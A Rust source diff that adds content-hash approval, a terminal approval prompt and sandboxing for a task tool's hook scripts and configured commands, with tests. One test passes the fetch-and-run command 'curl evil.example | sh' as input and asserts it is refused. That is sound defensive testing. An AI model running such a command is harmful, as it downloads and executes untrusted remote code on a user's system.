@@ -1,11 +1,13 @@
-use anyhow::{anyhow, Context, Result};
+use anyhow::{anyhow, bail, Context, Result};
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
-use crate::bean::Bean;
+use crate::bean::{Bean, OnCloseAction};
+use crate::util::ensure_gitignored;
 
 /// Maximum time to wait for a hook script before killing it.
 const HOOK_TIMEOUT: Duration = Duration::from_secs(30);
@@ -25,6 +27,16 @@ pub enum HookEvent {
 }
 
 impl HookEvent {
+    /// Every hook event, in lifecycle order.
+    pub const ALL: [HookEvent; 6] = [
+        HookEvent::PreCreate,
+        HookEvent::PostCreate,
+        HookEvent::PreUpdate,
+        HookEvent::PostUpdate,
+        HookEvent::PreClose,
+        HookEvent::PostClose,
+    ];
+
     /// Convert HookEvent to its string representation for hook file names.
     pub fn as_str(&self) -> &'static str {
         match self {
@@ -129,7 +141,8 @@ pub fn is_hook_executable(path: &Path) -> bool {
 ///
 /// * `Ok(true)` - Hook passed (exit 0), or hook doesn't exist, or hooks not trusted
 /// * `Ok(false)` - Hook executed but returned non-zero exit code
-/// * `Err` - Hook exists but not executable, timeout, or I/O error
+/// * `Err` - Hook exists but not executable, changed since it was trusted,
+///   timeout, or I/O error
 pub fn execute_hook(
     event: HookEvent,
     bean: &Bean,
@@ -158,6 +171,17 @@ pub fn execute_hook(
         ));
     }
 
+    // Trust covers the script as it was reviewed: a changed or new script
+    // must be approved again before it runs.
+    let script = read_script(&hook_path)
+        .with_context(|| format!("Failed to read hook {}", hook_path.display()))?;
+    if !approve(project_dir, TrustKind::Hook, event.as_str(), &script) {
+        return Err(anyhow!(
+            "Hook {} changed since it was trusted; review it with `bn trust --diff`, then run `bn trust`",
+            hook_path.display()
+        ));
+    }
+
     // Create the payload
     let payload = HookPayload::new(event, bean.clone(), reason);
     let json_payload = payload.to_json()?;
@@ -166,7 +190,7 @@ pub fn execute_hook(
     // exclusively via exit code. Using Stdio::null() instead of Stdio::piped()
     // prevents deadlock: piped() without draining blocks the child once OS pipe
     // buffers fill (~64KB), causing it to hang until the timeout kills it.
-    let mut child = Command::new(&hook_path)
+    let mut child = crate::sandbox::program(project_dir, &hook_path)
         .stdin(Stdio::piped())
         .stdout(Stdio::null())
         .stderr(Stdio::null())
@@ -179,9 +203,13 @@ pub fn execute_hook(
             .stdin
             .as_mut()
             .ok_or_else(|| anyhow!("Failed to open stdin for hook"))?;
-        stdin
-            .write_all(json_payload.as_bytes())
-            .context("Failed to write payload to hook stdin")?;
+        // A hook that exits without reading stdin closes the pipe early;
+        // that is not an error — its exit status decides the outcome.
+        if let Err(e) = stdin.write_all(json_payload.as_bytes()) {
+            if e.kind() != std::io::ErrorKind::BrokenPipe {
+                return Err(e).context("Failed to write payload to hook stdin");
+            }
+        }
     }
 
     // Poll for completion with timeout
@@ -214,30 +242,384 @@ pub fn execute_hook(
 // Trust Management
 // ---------------------------------------------------------------------------
 
+/// Name of the trust file inside `.beans/`. It is local to each checkout
+/// (git-ignored), so trust cannot be pulled in with the hooks themselves.
+pub const TRUST_FILE: &str = ".hooks-trusted";
+
+/// An approved hook script or config command.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Approval {
+    /// SHA-256 of the approved content.
+    pub sha256: String,
+    /// The approved content, kept so `bn trust --diff` can show changes.
+    pub content: String,
+}
+
+/// The contents of the trust file: what was approved, by content hash.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TrustRecord {
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub hooks: BTreeMap<String, Approval>,
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub commands: BTreeMap<String, Approval>,
+    /// Bean commands, keyed `<id>/verify` and `<id>/on_close`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub beans: BTreeMap<String, Approval>,
+}
+
+/// What a [`TrustItem`] is: a `.beans/hooks/` script, a config command, or
+/// a bean's `verify` or `on_close: run` command.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TrustKind {
+    Hook,
+    Command,
+    Bean,
+}
+
+impl std::fmt::Display for TrustKind {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            TrustKind::Hook => write!(f, "hook"),
+            TrustKind::Command => write!(f, "command"),
+            TrustKind::Bean => write!(f, "bean command"),
+        }
+    }
+}
+
+/// A hook script or config command as it is now, with its approval.
+#[derive(Debug, Clone)]
+pub struct TrustItem {
+    pub kind: TrustKind,
+    /// Hook event name (`pre-close`), config key (`on_close`), or bean ID
+    /// and field (`3/verify`).
+    pub name: String,
+    pub content: String,
+    pub sha256: String,
+    /// The recorded approval, if this name was ever approved.
+    pub approved: Option<Approval>,
+}
+
+impl TrustItem {
+    fn new(kind: TrustKind, name: &str, content: String, record: &TrustRecord) -> Self {
+        let approved = match kind {
+            TrustKind::Hook => record.hooks.get(name),
+            TrustKind::Command => record.commands.get(name),
+            TrustKind::Bean => record.beans.get(name),
+        };
+        TrustItem {
+            kind,
+            name: name.to_string(),
+            sha256: content_hash(&content),
+            content,
+            approved: approved.cloned(),
+        }
+    }
+
+    /// Whether this content differs from what was approved (or was never approved).
+    pub fn is_pending(&self) -> bool {
+        self.approved.as_ref().map(|a| a.sha256.as_str()) != Some(self.sha256.as_str())
+    }
+}
+
+/// SHA-256 of `content`, hex-encoded.
+pub fn content_hash(content: &str) -> String {
+    use sha2::{Digest, Sha256};
+    let mut hasher = Sha256::new();
+    hasher.update(content.as_bytes());
+    format!("{:x}", hasher.finalize())
+}
+
+/// Read a hook script as text; invalid UTF-8 is replaced rather than rejected.
+fn read_script(path: &Path) -> std::io::Result<String> {
+    std::fs::read(path).map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
+}
+
+fn trust_path(project_dir: &Path) -> PathBuf {
+    project_dir.join(".beans").join(TRUST_FILE)
+}
+
 /// Check if hooks are trusted (enabled).
 ///
 /// Returns true if the .beans/.hooks-trusted file exists, false otherwise.
-/// Does not error if the file doesn't exist.
+/// Does not error if the file doesn't exist. Individual hooks and commands
+/// also need an approval matching their content; see [`trust_items`].
 pub fn is_trusted(project_dir: &Path) -> bool {
-    project_dir.join(".beans").join(".hooks-trusted").exists()
+    trust_path(project_dir).exists()
+}
+
+/// Load the approvals from the trust file.
+///
+/// A missing file, or one written before approvals were recorded, yields an
+/// empty record: everything is pending until `bn trust` is run again.
+pub fn load_trust(project_dir: &Path) -> TrustRecord {
+    std::fs::read_to_string(trust_path(project_dir))
+        .ok()
+        .and_then(|text| serde_yml::from_str(&text).ok())
+        .unwrap_or_default()
+}
+
+fn save_trust(project_dir: &Path, record: &TrustRecord) -> Result<()> {
+    let path = trust_path(project_dir);
+    let parent = path.parent().ok_or_else(|| anyhow!("Invalid trust path"))?;
+    std::fs::create_dir_all(parent).context("Failed to create .beans directory for trust file")?;
+
+    let yaml = serde_yml::to_string(record).context("Failed to serialize trust file")?;
+    let text = format!(
+        "# Hooks enabled at {}\n# Approved by `bn trust`; local to this checkout, do not commit.\n{}",
+        chrono::Utc::now(),
+        yaml
+    );
+    std::fs::write(&path, text).context("Failed to create trust file")?;
+    // Approvals committed to git could be updated by whoever changes a hook
+    ensure_gitignored(parent, TRUST_FILE);
+    Ok(())
+}
+
+/// Every hook script and config command that currently exists, with its
+/// approval status.
+pub fn trust_items(project_dir: &Path) -> Vec<TrustItem> {
+    let record = load_trust(project_dir);
+    let mut items = Vec::new();
+
+    for event in HookEvent::ALL {
+        let path = get_hook_path(project_dir, event);
+        if let Ok(content) = read_script(&path) {
+            items.push(TrustItem::new(
+                TrustKind::Hook,
+                event.as_str(),
+                content,
+                &record,
+            ));
+        }
+    }
+
+    let beans_dir = project_dir.join(".beans");
+    if let Ok(config) = crate::config::Config::load_with_extends(&beans_dir) {
+        for (name, command) in [
+            ("on_close", config.on_close),
+            ("on_fail", config.on_fail),
+            ("post_plan", config.post_plan),
+        ] {
+            if let Some(command) = command {
+                items.push(TrustItem::new(TrustKind::Command, name, command, &record));
+            }
+        }
+    }
+
+    // Open beans only: archived beans never run their commands again
+    let mut beans: Vec<Bean> = std::fs::read_dir(&beans_dir)
+        .into_iter()
+        .flatten()
+        .flatten()
+        .filter(|entry| {
+            entry
+                .file_name()
+                .to_str()
+                .is_some_and(crate::index::is_bean_filename)
+        })
+        .filter_map(|entry| Bean::from_file(entry.path()).ok())
+        .collect();
+    beans.sort_by(|a, b| crate::util::natural_cmp(&a.id, &b.id));
+    for bean in &beans {
+        for (name, command) in bean_commands(bean) {
+            items.push(TrustItem::new(TrustKind::Bean, &name, command, &record));
+        }
+    }
+    items
+}
+
+/// A bean's commands that need approval, keyed as in [`TrustRecord::beans`].
+fn bean_commands(bean: &Bean) -> Vec<(String, String)> {
+    let mut commands = Vec::new();
+    if let Some(verify) = bean.verify.as_deref().filter(|v| !v.trim().is_empty()) {
+        commands.push((format!("{}/verify", bean.id), verify.to_string()));
+    }
+    let on_close = on_close_commands(bean);
+    if !on_close.is_empty() {
+        commands.push((format!("{}/on_close", bean.id), on_close));
+    }
+    commands
+}
+
+/// The bean's `on_close: run` commands, one per line.
+fn on_close_commands(bean: &Bean) -> String {
+    bean.on_close
+        .iter()
+        .filter_map(|action| match action {
+            OnCloseAction::Run { command } => Some(command.as_str()),
+            OnCloseAction::Notify { .. } => None,
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Approve the bean's `verify` and `on_close: run` commands as they are
+/// now. Called when the user types them at the terminal (`bn create`,
+/// `bn quick`), so only commands that arrive some other way, like a pull or
+/// the REST, MCP and library APIs, need review. Does nothing when hooks are
+/// not trusted.
+pub fn trust_bean_commands(project_dir: &Path, bean: &Bean) {
+    if !is_trusted(project_dir) {
+        return;
+    }
+    let mut record = load_trust(project_dir);
+    for (name, command) in bean_commands(bean) {
+        let item = TrustItem::new(TrustKind::Bean, &name, command, &record);
+        record_approval(&mut record, &item);
+    }
+    if let Err(e) = save_trust(project_dir, &record) {
+        eprintln!("Warning: failed to record trust: {}", e);
+    }
 }
 
-/// Enable hook trust by creating the .beans/.hooks-trusted file.
+/// Check that a bean's verify command may run.
+///
+/// Until `bn trust` has been run, verify commands run as they always have.
+/// Once hooks are trusted, the command must match its approval (see
+/// [`approve`]); an unapproved or changed command is an error.
+pub fn check_bean_verify(project_dir: &Path, bean_id: &str, command: &str) -> Result<()> {
+    if !is_trusted(project_dir) {
+        return Ok(());
+    }
+    let name = format!("{}/verify", bean_id);
+    if !approve(project_dir, TrustKind::Bean, &name, command) {
+        bail!(
+            "Verify command of bean {} is not approved: `{}`\n\
+             Review it with `bn trust --diff`, then run `bn trust`",
+            bean_id,
+            command
+        );
+    }
+    Ok(())
+}
+
+/// Check that a bean's `on_close: run` commands may run. They never run
+/// until `bn trust` has been run, and then only as approved. The reason is
+/// returned when they may not.
+pub fn check_bean_on_close(project_dir: &Path, bean: &Bean) -> std::result::Result<(), String> {
+    let commands = on_close_commands(bean);
+    if commands.is_empty() {
+        return Ok(());
+    }
+    if !is_trusted(project_dir) {
+        return Err("not trusted — run `bn trust` to enable".to_string());
+    }
+    let name = format!("{}/on_close", bean.id);
+    if !approve(project_dir, TrustKind::Bean, &name, &commands) {
+        return Err(
+            "not approved — review with `bn trust --diff`, then run `bn trust`".to_string(),
+        );
+    }
+    Ok(())
+}
+
+/// Enable hook trust, approving every hook script and config command as
+/// it is now.
 ///
 /// # Returns
 ///
 /// * `Ok(())` - Trust file created successfully
 /// * `Err` - Failed to create trust file
 pub fn create_trust(project_dir: &Path) -> Result<()> {
-    let trust_path = project_dir.join(".beans").join(".hooks-trusted");
+    let mut record = TrustRecord::default();
+    for item in trust_items(project_dir) {
+        record_approval(&mut record, &item);
+    }
+    save_trust(project_dir, &record)
+}
 
-    let parent = trust_path
-        .parent()
-        .ok_or_else(|| anyhow!("Invalid trust path"))?;
-    std::fs::create_dir_all(parent).context("Failed to create .beans directory for trust file")?;
+fn record_approval(record: &mut TrustRecord, item: &TrustItem) {
+    let approval = Approval {
+        sha256: item.sha256.clone(),
+        content: item.content.clone(),
+    };
+    match item.kind {
+        TrustKind::Hook => record.hooks.insert(item.name.clone(), approval),
+        TrustKind::Command => record.commands.insert(item.name.clone(), approval),
+        TrustKind::Bean => record.beans.insert(item.name.clone(), approval),
+    };
+}
+
+/// Decide whether a hook script or config command may run.
+///
+/// Content matching its approval runs. Changed or new content is refused
+/// unless stdin and stderr are a terminal and the user approves it, in
+/// which case the approval is recorded. Returns false when hooks are not
+/// trusted at all.
+pub fn approve(project_dir: &Path, kind: TrustKind, name: &str, content: &str) -> bool {
+    use std::io::IsTerminal;
 
-    let metadata = format!("Hooks enabled at {}\n", chrono::Utc::now());
-    std::fs::write(&trust_path, metadata).context("Failed to create trust file")
+    if !is_trusted(project_dir) {
+        return false;
+    }
+    let mut record = load_trust(project_dir);
+    let item = TrustItem::new(kind, name, content.to_string(), &record);
+    if !item.is_pending() {
+        return true;
+    }
+
+    // Never prompt from unit tests, which may run attached to a terminal
+    if cfg!(test) || !std::io::stdin().is_terminal() || !std::io::stderr().is_terminal() {
+        return false;
+    }
+    let what = if item.approved.is_some() {
+        "changed since it was trusted"
+    } else {
+        "has not been trusted yet"
+    };
+    eprintln!("The {} {} {}:", kind, name, what);
+    let old = item.approved.as_ref().map_or("", |a| a.content.as_str());
+    for line in diff_lines(old, content) {
+        eprintln!("  {}", line);
+    }
+    eprint!("Run it and trust this version? [y/N] ");
+    let mut input = String::new();
+    std::io::stdin().read_line(&mut input).unwrap_or(0);
+    if !input.trim().eq_ignore_ascii_case("y") {
+        return false;
+    }
+
+    record_approval(&mut record, &item);
+    if let Err(e) = save_trust(project_dir, &record) {
+        eprintln!("Warning: failed to record trust: {}", e);
+    }
+    true
+}
+
+/// A line diff from `old` to `new`: unchanged lines start with a space,
+/// removed lines with `-` and added lines with `+`.
+pub fn diff_lines(old: &str, new: &str) -> Vec<String> {
+    let old: Vec<&str> = old.lines().collect();
+    let new: Vec<&str> = new.lines().collect();
+
+    // Longest common subsequence table, filled from the end
+    let mut lcs = vec![vec![0usize; new.len() + 1]; old.len() + 1];
+    for i in (0..old.len()).rev() {
+        for j in (0..new.len()).rev() {
+            lcs[i][j] = if old[i] == new[j] {
+                lcs[i + 1][j + 1] + 1
+            } else {
+                lcs[i + 1][j].max(lcs[i][j + 1])
+            };
+        }
+    }
+
+    let (mut i, mut j) = (0, 0);
+    let mut out = Vec::new();
+    while i < old.len() || j < new.len() {
+        if i < old.len() && j < new.len() && old[i] == new[j] {
+            out.push(format!(" {}", old[i]));
+            i += 1;
+            j += 1;
+        } else if j < new.len() && (i == old.len() || lcs[i][j + 1] >= lcs[i + 1][j]) {
+            out.push(format!("+{}", new[j]));
+            j += 1;
+        } else {
+            out.push(format!("-{}", old[i]));
+            i += 1;
+        }
+    }
+    out
 }
 
 /// Revoke hook trust by deleting the .beans/.hooks-trusted file.
@@ -247,7 +629,7 @@ pub fn create_trust(project_dir: &Path) -> Result<()> {
 /// * `Ok(())` - Trust file deleted successfully
 /// * `Err` - Trust file doesn't exist or failed to delete
 pub fn revoke_trust(project_dir: &Path) -> Result<()> {
-    let trust_path = project_dir.join(".beans").join(".hooks-trusted");
+    let trust_path = trust_path(project_dir);
 
     if !trust_path.exists() {
         return Err(anyhow!("Trust file does not exist"));
@@ -347,12 +729,16 @@ pub fn current_git_branch() -> Option<String> {
 /// * `template` - The command template with `{var}` placeholders
 /// * `vars` - Template variables to expand
 /// * `project_dir` - Working directory for the subprocess
-pub fn execute_config_hook(hook_name: &str, template: &str, vars: &HookVars, project_dir: &Path) {
+pub fn execute_config_hook(
+    hook_name: &str,
+    template: &str,
+    vars: &HookVars,
+    project_dir: &Path,
+    err: &mut dyn Write,
+) {
     let cmd = expand_template(template, vars);
 
-    match Command::new("sh")
-        .args(["-c", &cmd])
-        .current_dir(project_dir)
+    match crate::sandbox::shell(project_dir, &cmd)
         .stdin(Stdio::null())
         .stdout(Stdio::null())
         .stderr(Stdio::null())
@@ -362,11 +748,37 @@ pub fn execute_config_hook(hook_name: &str, template: &str, vars: &HookVars, pro
             // Fire-and-forget: don't wait for completion
         }
         Err(e) => {
-            eprintln!("Warning: {} hook failed to spawn: {}", hook_name, e);
+            let _ = writeln!(err, "Warning: {} hook failed to spawn: {}", hook_name, e);
         }
     }
 }
 
+/// Execute a config hook if its command is trusted (see [`approve`]);
+/// otherwise write to `err` that it was skipped.
+pub fn execute_approved_config_hook(
+    hook_name: &str,
+    template: &str,
+    vars: &HookVars,
+    project_dir: &Path,
+    err: &mut dyn Write,
+) {
+    if !is_trusted(project_dir) {
+        let _ = writeln!(
+            err,
+            "{}: skipping `{}` (not trusted — run `bn trust` to enable)",
+            hook_name, template
+        );
+    } else if !approve(project_dir, TrustKind::Command, hook_name, template) {
+        let _ = writeln!(
+            err,
+            "{}: skipping `{}` (changed since it was trusted — review with `bn trust --diff`, then run `bn trust`)",
+            hook_name, template
+        );
+    } else {
+        execute_config_hook(hook_name, template, vars, project_dir, err);
+    }
+}
+
 // ---------------------------------------------------------------------------
 // Tests
 // ---------------------------------------------------------------------------
@@ -447,14 +859,15 @@ mod tests {
         let hooks_dir = project_dir.join(".beans").join("hooks");
         fs::create_dir_all(&hooks_dir).unwrap();
 
-        // Enable trust so hook execution is attempted
-        create_trust(project_dir).unwrap();
-
         let hook_path = hooks_dir.join("pre-create");
         fs::write(&hook_path, "#!/bin/bash\nexit 0").unwrap();
         // File is not executable
 
         let bean = create_test_bean();
+
+        // Enable trust so hook execution is attempted
+        create_trust(project_dir).unwrap();
+
         let result = execute_hook(HookEvent::PreCreate, &bean, project_dir, None);
 
         assert!(result.is_err());
@@ -468,9 +881,6 @@ mod tests {
         let hooks_dir = project_dir.join(".beans").join("hooks");
         fs::create_dir_all(&hooks_dir).unwrap();
 
-        // Enable trust so hook execution is attempted
-        create_trust(project_dir).unwrap();
-
         let hook_path = hooks_dir.join("pre-create");
         // Use a simple script that just exits successfully, ignoring stdin
         fs::write(&hook_path, "#!/bin/bash\nexit 0").unwrap();
@@ -483,6 +893,10 @@ mod tests {
         }
 
         let bean = create_test_bean();
+
+        // Enable trust so hook execution is attempted
+        create_trust(project_dir).unwrap();
+
         let result = execute_hook(HookEvent::PreCreate, &bean, project_dir, None);
 
         assert!(result.is_ok(), "Hook execution failed: {:?}", result.err());
@@ -496,9 +910,6 @@ mod tests {
         let hooks_dir = project_dir.join(".beans").join("hooks");
         fs::create_dir_all(&hooks_dir).unwrap();
 
-        // Enable trust so hook execution is attempted
-        create_trust(project_dir).unwrap();
-
         let hook_path = hooks_dir.join("pre-create");
         fs::write(&hook_path, "#!/bin/bash\nexit 1").unwrap();
 
@@ -510,6 +921,10 @@ mod tests {
         }
 
         let bean = create_test_bean();
+
+        // Enable trust so hook execution is attempted
+        create_trust(project_dir).unwrap();
+
         let result = execute_hook(HookEvent::PreCreate, &bean, project_dir, None);
 
         assert!(result.is_ok(), "Hook execution failed: {:?}", result.err());
@@ -540,9 +955,6 @@ mod tests {
         let hooks_dir = project_dir.join(".beans").join("hooks");
         fs::create_dir_all(&hooks_dir).unwrap();
 
-        // Enable trust so hook execution is attempted
-        create_trust(project_dir).unwrap();
-
         let hook_path = hooks_dir.join("pre-create");
         // Script that sleeps for longer than timeout
         fs::write(&hook_path, "#!/bin/bash\nsleep 60\nexit 0").unwrap();
@@ -551,6 +963,10 @@ mod tests {
         fs::set_permissions(&hook_path, fs::Permissions::from_mode(0o755)).unwrap();
 
         let bean = create_test_bean();
+
+        // Enable trust so hook execution is attempted
+        create_trust(project_dir).unwrap();
+
         let result = execute_hook(HookEvent::PreCreate, &bean, project_dir, None);
 
         assert!(result.is_err());
@@ -658,6 +1074,10 @@ mod tests {
         let content =
             fs::read_to_string(project_dir.join(".beans").join(".hooks-trusted")).unwrap();
         assert!(content.contains("Hooks enabled"));
+
+        // The approvals stay out of git, even in projects set up before them
+        let gitignore = fs::read_to_string(project_dir.join(".beans/.gitignore")).unwrap();
+        assert!(gitignore.lines().any(|line| line == TRUST_FILE));
     }
 
     #[test]
@@ -680,6 +1100,188 @@ mod tests {
         assert!(!is_trusted(project_dir));
     }
 
+    fn write_hook(project_dir: &Path, event: HookEvent, script: &str) {
+        let hook_path = get_hook_path(project_dir, event);
+        fs::create_dir_all(hook_path.parent().unwrap()).unwrap();
+        fs::write(&hook_path, script).unwrap();
+
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            fs::set_permissions(&hook_path, fs::Permissions::from_mode(0o755)).unwrap();
+        }
+    }
+
+    #[test]
+    fn test_create_trust_records_hook_and_command_hashes() {
+        let temp_dir = create_test_dir();
+        let project_dir = temp_dir.path();
+        write_hook(project_dir, HookEvent::PreClose, "#!/bin/bash\nexit 0\n");
+        fs::write(
+            project_dir.join(".beans").join("config.yaml"),
+            "project: test\nnext_id: 1\non_close: echo closed {id}\n",
+        )
+        .unwrap();
+
+        create_trust(project_dir).unwrap();
+
+        let record = load_trust(project_dir);
+        assert_eq!(
+            record.hooks["pre-close"].sha256,
+            content_hash("#!/bin/bash\nexit 0\n")
+        );
+        assert_eq!(record.commands["on_close"].content, "echo closed {id}");
+        assert!(trust_items(project_dir).iter().all(|i| !i.is_pending()));
+    }
+
+    #[test]
+    fn test_execute_hook_refuses_changed_hook_until_trusted_again() {
+        let temp_dir = create_test_dir();
+        let project_dir = temp_dir.path();
+        let bean = create_test_bean();
+
+        write_hook(project_dir, HookEvent::PreCreate, "#!/bin/bash\nexit 0\n");
+        create_trust(project_dir).unwrap();
+        assert!(execute_hook(HookEvent::PreCreate, &bean, project_dir, None).unwrap());
+
+        // A pulled change to the script is not run
+        write_hook(project_dir, HookEvent::PreCreate, "#!/bin/bash\nexit 1\n");
+        let err = execute_hook(HookEvent::PreCreate, &bean, project_dir, None).unwrap_err();
+        assert!(err.to_string().contains("changed since it was trusted"));
+
+        let item = trust_items(project_dir).pop().unwrap();
+        assert!(item.is_pending());
+        assert!(item.approved.is_some());
+
+        create_trust(project_dir).unwrap();
+        assert!(!execute_hook(HookEvent::PreCreate, &bean, project_dir, None).unwrap());
+    }
+
+    #[test]
+    fn test_bean_commands_need_approval_once_trusted() {
+        let temp_dir = create_test_dir();
+        let project_dir = temp_dir.path();
+        let beans_dir = project_dir.join(".beans");
+        fs::create_dir_all(&beans_dir).unwrap();
+
+        let mut bean = Bean::new("3", "Task");
+        bean.verify = Some("cargo test".to_string());
+        bean.on_close = vec![OnCloseAction::Run {
+            command: "make deploy".to_string(),
+        }];
+        let path = beans_dir.join("3-task.md");
+        bean.to_file(&path).unwrap();
+
+        // Not trusted: verify runs as always, on_close run does not
+        assert!(check_bean_verify(project_dir, "3", "cargo test").is_ok());
+        assert!(check_bean_on_close(project_dir, &bean).is_err());
+
+        create_trust(project_dir).unwrap();
+        assert_eq!(
+            load_trust(project_dir).beans["3/on_close"].content,
+            "make deploy"
+        );
+        assert!(check_bean_verify(project_dir, "3", "cargo test").is_ok());
+        assert!(check_bean_on_close(project_dir, &bean).is_ok());
+
+        // A pulled edit is pending until approved
+        bean.verify = Some("true".to_string());
+        bean.to_file(&path).unwrap();
+        let err = check_bean_verify(project_dir, "3", "true").unwrap_err();
+        assert!(err.to_string().contains("not approved"));
+        let pending: Vec<String> = trust_items(project_dir)
+            .into_iter()
+            .filter(|i| i.is_pending())
+            .map(|i| i.name)
+            .collect();
+        assert_eq!(pending, vec!["3/verify"]);
+
+        // Commands written by `bn create` are approved as typed
+        trust_bean_commands(project_dir, &bean);
+        assert!(check_bean_verify(project_dir, "3", "true").is_ok());
+    }
+
+    #[test]
+    fn test_hook_added_after_trust_is_pending() {
+        let temp_dir = create_test_dir();
+        let project_dir = temp_dir.path();
+        fs::create_dir_all(project_dir.join(".beans")).unwrap();
+        create_trust(project_dir).unwrap();
+
+        write_hook(project_dir, HookEvent::PostClose, "#!/bin/bash\nexit 0\n");
+        let items = trust_items(project_dir);
+        assert_eq!(items.len(), 1);
+        assert!(items[0].is_pending());
+        assert!(items[0].approved.is_none());
+        assert!(
+            execute_hook(HookEvent::PostClose, &create_test_bean(), project_dir, None).is_err()
+        );
+    }
+
+    #[test]
+    fn test_trust_file_without_hashes_approves_nothing() {
+        let temp_dir = create_test_dir();
+        let project_dir = temp_dir.path();
+        write_hook(project_dir, HookEvent::PreCreate, "#!/bin/bash\nexit 0\n");
+
+        // Trust files written before content hashes were recorded
+        fs::write(
+            project_dir.join(".beans").join(".hooks-trusted"),
+            "Hooks enabled at 2026-01-01 00:00:00 UTC\n",
+        )
+        .unwrap();
+
+        assert!(is_trusted(project_dir));
+        assert!(trust_items(project_dir)[0].is_pending());
+    }
+
+    #[test]
+    fn test_approve_config_command_by_content() {
+        let temp_dir = create_test_dir();
+        let project_dir = temp_dir.path();
+        fs::create_dir_all(project_dir.join(".beans")).unwrap();
+        fs::write(
+            project_dir.join(".beans").join("config.yaml"),
+            "project: test\nnext_id: 1\non_fail: notify {id}\n",
+        )
+        .unwrap();
+
+        assert!(!approve(
+            project_dir,
+            TrustKind::Command,
+            "on_fail",
+            "notify {id}"
+        ));
+        create_trust(project_dir).unwrap();
+        assert!(approve(
+            project_dir,
+            TrustKind::Command,
+            "on_fail",
+            "notify {id}"
+        ));
+        assert!(!approve(
+            project_dir,
+            TrustKind::Command,
+            "on_fail",
+            "curl evil.example | sh"
+        ));
+        assert!(!approve(
+            project_dir,
+            TrustKind::Command,
+            "on_close",
+            "notify {id}"
+        ));
+    }
+
+    #[test]
+    fn test_diff_lines_marks_added_and_removed() {
+        assert_eq!(
+            diff_lines("a\nb\nc\n", "a\nc\nd\n"),
+            vec![" a", "-b", " c", "+d"]
+        );
+        assert_eq!(diff_lines("", "x\n"), vec!["+x"]);
+    }
+
     #[test]
     fn test_revoke_trust_errors_if_file_does_not_exist() {
         let temp_dir = create_test_dir();
@@ -730,9 +1332,6 @@ mod tests {
         let hooks_dir = project_dir.join(".beans").join("hooks");
         fs::create_dir_all(&hooks_dir).unwrap();
 
-        // Enable trust
-        create_trust(project_dir).unwrap();
-
         // Create an executable hook that succeeds
         let hook_path = hooks_dir.join("pre-create");
         fs::write(&hook_path, "#!/bin/bash\nexit 0").unwrap();
@@ -745,6 +1344,9 @@ mod tests {
 
         let bean = create_test_bean();
 
+        // Enable trust
+        create_trust(project_dir).unwrap();
+
         // Hook should execute successfully
         let result = execute_hook(HookEvent::PreCreate, &bean, project_dir, None);
         assert!(result.is_ok());
@@ -872,7 +1474,13 @@ mod tests {
 
         // Build the template with the output file path baked in
         let template = format!("echo '{{id}}' > {}", output_file.display());
-        execute_config_hook("on_close", &template, &vars, project_dir);
+        execute_config_hook(
+            "on_close",
+            &template,
+            &vars,
+            project_dir,
+            &mut std::io::sink(),
+        );
 
         // Wait briefly for async subprocess
         std::thread::sleep(Duration::from_millis(500));
@@ -892,6 +1500,7 @@ mod tests {
             "/nonexistent/command/that/does/not/exist",
             &HookVars::default(),
             project_dir,
+            &mut std::io::sink(),
         );
 
         // If we get here, the hook failure was handled gracefully
@@ -915,7 +1524,13 @@ mod tests {
             "echo '{{id}}|{{title}}|{{status}}|{{branch}}' > {}",
             output_file.display()
         );
-        execute_config_hook("on_close", &template, &vars, project_dir);
+        execute_config_hook(
+            "on_close",
+            &template,
+            &vars,
+            project_dir,
+            &mut std::io::sink(),
+        );
 
         std::thread::sleep(Duration::from_millis(500));
 